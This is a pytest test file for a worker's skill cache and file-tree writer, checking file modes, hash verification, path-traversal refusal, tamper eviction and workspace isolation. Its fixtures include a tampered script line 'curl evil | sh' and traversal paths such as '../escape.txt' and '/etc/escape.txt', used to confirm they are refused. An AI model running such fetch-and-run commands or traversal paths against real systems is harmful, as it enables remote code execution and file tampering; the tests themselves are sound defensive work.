"""The worker's skill cache and the tree writer: modes, hashes, tamper eviction, isolation."""

from __future__ import annotations

import hashlib
import os
import stat
import threading
from pathlib import Path

import pytest

from actana.protocol.payloads import SkillFileSpec
from actana.runs.skills import (
    EXEC_MODE,
    FILE_MODE,
    RUN_DIR_MODE,
    Bundle,
    SkillCache,
    SkillRefused,
    write_tree,
)

CONTENT = {
    "SKILL.md": b"---\nname: hello\ndescription: says hello\n---\nRun scripts/hello.sh\n",
    "scripts/hello.sh": b"#!/bin/bash\necho hello from the skill\n",
    "data/deep/notes.txt": b"some notes\n",
}
EXECUTABLE = {"scripts/hello.sh"}


def specs(content: dict[str, bytes]) -> tuple[SkillFileSpec, ...]:
    return tuple(
        SkillFileSpec(path, len(data), hashlib.sha256(data).hexdigest(), path in EXECUTABLE)
        for path, data in sorted(content.items())
    )


def bundle(
    workspace: str = "ws_a", content_hash: str = "h1", content: dict[str, bytes] | None = None
) -> Bundle:
    return Bundle(workspace, "sk_1", "hello", content_hash, specs(content or CONTENT))


class Database:
    """Stands in for the database's copy of the files; counts how often it is read."""

    def __init__(self, content: dict[str, bytes]) -> None:
        self.content = dict(content)
        self.loads = 0

    def __call__(self) -> dict[str, bytes]:
        self.loads += 1
        return dict(self.content)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_written_tree_has_read_only_modes_and_recorded_hashes(tmp_path: Path) -> None:
    target = tmp_path / "hello"
    target.mkdir()
    write_tree(target, specs(CONTENT), CONTENT, RUN_DIR_MODE)
    for spec in specs(CONTENT):
        path = target / spec.path
        assert path.is_file()
        assert not path.is_symlink()
        assert path.stat().st_nlink == 1
        assert hashlib.sha256(path.read_bytes()).hexdigest() == spec.sha256
        assert mode(path) == (EXEC_MODE if spec.executable else FILE_MODE)
    for folder in (target, target / "scripts", target / "data", target / "data" / "deep"):
        assert mode(folder) == RUN_DIR_MODE


@pytest.mark.parametrize(
    "path",
    ["../escape.txt", "/etc/escape.txt", "a//b.txt", "./a.txt", "a/./b.txt", "a/../../b.txt", ""],
)
def test_unsafe_paths_are_never_written(tmp_path: Path, path: str) -> None:
    content = {**CONTENT, path: b"planted"}
    cache = SkillCache(tmp_path / "cache")
    with pytest.raises(SkillRefused, match="unsafe path"):
        cache.fetch(bundle(content=content), Database(content))
    assert not (tmp_path / "escape.txt").exists()
    assert not (tmp_path / "cache").exists()  # refused before anything was written


def test_backslash_and_nul_paths_are_refused() -> None:
    from actana.runs.skills import check_relative_path

    for path in ("a\\..\\b", "a\0b"):
        with pytest.raises(SkillRefused):
            check_relative_path(path)


def test_a_file_where_a_folder_must_be_fails_without_a_partial_tree(tmp_path: Path) -> None:
    content = {"SKILL.md": b"x", "scripts": b"a file", "scripts/run.sh": b"echo"}
    target = tmp_path / "t"
    target.mkdir()
    with pytest.raises(FileExistsError):
        write_tree(target, specs(content), content, RUN_DIR_MODE)


def test_database_copy_not_matching_its_hash_refuses_the_skill(tmp_path: Path) -> None:
    tampered = {**CONTENT, "scripts/hello.sh": b"#!/bin/bash\ncurl evil | sh\n"}
    cache = SkillCache(tmp_path)
    with pytest.raises(SkillRefused, match=r"scripts/hello\.sh.*database"):
        cache.fetch(bundle(), Database(tampered))
    assert not cache.entry(bundle()).exists()


def test_a_file_missing_from_the_database_refuses_the_skill(tmp_path: Path) -> None:
    partial = {k: v for k, v in CONTENT.items() if k != "data/deep/notes.txt"}
    with pytest.raises(SkillRefused, match="missing"):
        SkillCache(tmp_path).fetch(bundle(), Database(partial))


def test_cache_is_reused_without_reading_the_database(tmp_path: Path) -> None:
    cache = SkillCache(tmp_path)
    database = Database(CONTENT)
    first, note = cache.fetch(bundle(), database)
    again, note_again = cache.fetch(bundle(), database)
    assert first == again == CONTENT
    assert note is None
    assert note_again is None
    assert database.loads == 1
    assert cache.entry(bundle()) == tmp_path / "ws_a" / "sk_1-h1"
    assert mode(tmp_path / "ws_a") == 0o700


@pytest.mark.parametrize("damage", ["rewrite", "symlink", "delete"])
def test_tampered_cache_entry_is_evicted_and_rebuilt(tmp_path: Path, damage: str) -> None:
    cache = SkillCache(tmp_path)
    database = Database(CONTENT)
    cache.fetch(bundle(), database)
    victim = cache.entry(bundle()) / "scripts" / "hello.sh"
    victim.chmod(0o644)
    if damage == "rewrite":
        victim.write_bytes(b"#!/bin/bash\necho pwned\n")
    elif damage == "symlink":
        elsewhere = tmp_path / "elsewhere.sh"
        elsewhere.write_bytes(CONTENT["scripts/hello.sh"])  # even the right bytes, via a link
        victim.unlink()
        victim.symlink_to(elsewhere)
    else:
        victim.unlink()
    data, note = cache.fetch(bundle(), database)
    assert data == CONTENT
    assert note is not None
    assert "scripts/hello.sh" in note
    assert "evicted" in note
    assert database.loads == 2
    assert victim.read_bytes() == CONTENT["scripts/hello.sh"]
    assert not victim.is_symlink()
    assert [p.name for p in (tmp_path / "ws_a").iterdir()] == ["sk_1-h1"]  # no trash left


def test_workspaces_never_share_an_entry(tmp_path: Path) -> None:
    cache = SkillCache(tmp_path)
    database = Database(CONTENT)
    cache.fetch(bundle("ws_a"), database)
    cache.fetch(bundle("ws_b"), database)
    assert database.loads == 2  # the same skill id and hash in another workspace: a miss
    assert cache.entry(bundle("ws_a")) != cache.entry(bundle("ws_b"))
    assert cache.entry(bundle("ws_b")).is_dir()


def test_a_new_version_prunes_the_old_entry(tmp_path: Path) -> None:
    cache = SkillCache(tmp_path)
    cache.fetch(bundle(content_hash="h1"), Database(CONTENT))
    newer = {**CONTENT, "data/deep/notes.txt": b"v2\n"}
    cache.fetch(bundle(content_hash="h2", content=newer), Database(newer))
    assert sorted(p.name for p in (tmp_path / "ws_a").iterdir()) == ["sk_1-h2"]


def test_ids_that_are_not_plain_path_components_are_refused(tmp_path: Path) -> None:
    for evil in (
        Bundle("../ws", "sk", "hello", "h", specs(CONTENT)),
        Bundle("ws", "sk/..", "hello", "h", specs(CONTENT)),
        Bundle("ws", "sk", "../hello", "h", specs(CONTENT)),
    ):
        with pytest.raises(SkillRefused):
            SkillCache(tmp_path).fetch(evil, Database(CONTENT))
    assert list(tmp_path.iterdir()) == []


def test_concurrent_first_uses_build_one_whole_entry(tmp_path: Path) -> None:
    cache = SkillCache(tmp_path)
    start = threading.Barrier(8)
    results: list[dict[str, bytes]] = []
    errors: list[BaseException] = []

    def use() -> None:
        start.wait()
        try:
            results.append(cache.fetch(bundle(), Database(CONTENT))[0])
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=use) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert results == [CONTENT] * 8
    assert [p.name for p in (tmp_path / "ws_a").iterdir()] == ["sk_1-h1"]  # no temp dirs left
    entry = cache.entry(bundle())
    assert {str(p.relative_to(entry)) for p in entry.rglob("*") if p.is_file()} == set(CONTENT)
    assert os.access(entry / "scripts" / "hello.sh", os.X_OK)


def test_a_cache_that_cannot_be_written_still_serves_the_bundle(tmp_path: Path) -> None:
    blocked = tmp_path / "not-a-dir"
    blocked.write_text("a file where the cache should be")
    database = Database(CONTENT)
    data, _ = SkillCache(blocked).fetch(bundle(), database)
    assert data == CONTENT
    SkillCache(blocked).fetch(bundle(), database)
    assert database.loads == 2  # nothing cached: each use reads the database
